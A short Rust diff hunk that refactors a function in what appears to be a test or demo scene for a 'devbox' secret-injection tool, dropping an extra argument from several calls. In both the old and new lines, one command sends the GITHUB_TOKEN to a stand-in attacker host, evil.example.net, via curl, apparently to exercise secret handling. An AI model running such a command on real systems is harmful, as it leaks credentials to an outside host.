@@ -129,12 +129,9 @@ fn talkative(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
 }
 
 fn running(scene: &Scene<'_>) -> anyhow::Result<Vec<u8>> {
-    let mut out = scene.devbox(
-        &["--secret", NAME],
-        "curl -sS -m 5 https://evil.example.net -H \"Authorization: Bearer $GITHUB_TOKEN\"; exit 3",
-        None,
-    )?;
-    out.extend(scene.devbox(&["--secret", "NONE"], "true", None)?);
-    out.extend(scene.devbox(&["--secret", NAME, "--env", "A=b"], "no-such-program \"$GITHUB_TOKEN\"", None)?);
+    let mut out =
+        scene.devbox(&["--secret", NAME], "curl -sS -m 5 https://evil.example.net -H \"Authorization: Bearer $GITHUB_TOKEN\"; exit 3")?;
+    out.extend(scene.devbox(&["--secret", "NONE"], "true")?);
+    out.extend(scene.devbox(&["--secret", NAME, "--env", "A=b"], "no-such-program \"$GITHUB_TOKEN\"")?);
     Ok(out)
 }
